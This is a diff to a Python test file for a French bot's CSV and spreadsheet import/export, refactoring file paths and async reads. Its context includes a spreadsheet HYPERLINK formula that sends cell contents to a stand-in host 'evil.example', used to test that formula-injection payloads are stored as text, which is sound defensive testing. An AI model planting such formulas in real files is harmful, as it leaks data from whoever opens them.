@@ -4,9 +4,11 @@ numbers in the XLSX are numbers a funder can sum, the bot's CSV reads back."""
 
 from __future__ import annotations
 
+import asyncio
 import csv
 import io
 import json
+from pathlib import Path
 
 from openpyxl import load_workbook
 from sqlalchemy import select
@@ -18,6 +20,7 @@ from bot.db.models.activity import ImportedFigure
 from tests.conftest import cancel_event
 from tests.formula_payloads import FORMULA_PAYLOADS
 
+SPREADSHEETS = Path(__file__).resolve().parents[1] / "data" / "spreadsheets"  # files saved by real spreadsheet apps
 HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"clic")'
 
 
@@ -99,7 +102,7 @@ async def test_recap_exports_keep_hostile_notes_as_text_and_numbers_as_numbers(p
     writer.writerow(["annee", "territoire", "indicateur", "valeur", "note"])
     indicators = ["promeneurs", "types_structures", "types_professions", "presentations", "reunions", "accompagnements"]
     cases = [(2018 + i // len(indicators), indicators[i % len(indicators)]) for i in range(len(FORMULA_PAYLOADS))]
-    for (year, indicator), payload in zip(cases, FORMULA_PAYLOADS):
+    for (year, indicator), payload in zip(cases, FORMULA_PAYLOADS, strict=True):
         writer.writerow([year, "", indicator, "1 234" if indicator == "promeneurs" else "12", payload])
     data = out.getvalue().encode("utf-8-sig")  # Excel "CSV UTF-8"
     done = await w.coordinator.slash(w.general, "bilan importer", fichier=("historique.csv", data))
@@ -264,12 +267,12 @@ async def test_event_calendar_files_through_creation_change_and_cancellation(pro
 
 
 async def test_import_files_saved_by_french_spreadsheets(profiles, db: Database) -> None:
-    from pathlib import Path
-
     w = profiles
-    files = Path(__file__).resolve().parents[1] / "data" / "spreadsheets"
+    files = SPREADSHEETS
     refused = await w.coordinator.slash(
-        w.general, "bilan importer", fichier=("bilan.csv", (files / "excel-fr-fraction.csv").read_bytes())
+        w.general,
+        "bilan importer",
+        fichier=("bilan.csv", await asyncio.to_thread((files / "excel-fr-fraction.csv").read_bytes)),
     )
     assert _last(refused).content == (
         "Ligne 3, colonne « valeur » : « 12,5 » n'est pas un nombre entier (« accompagnements » se compte en unités)."
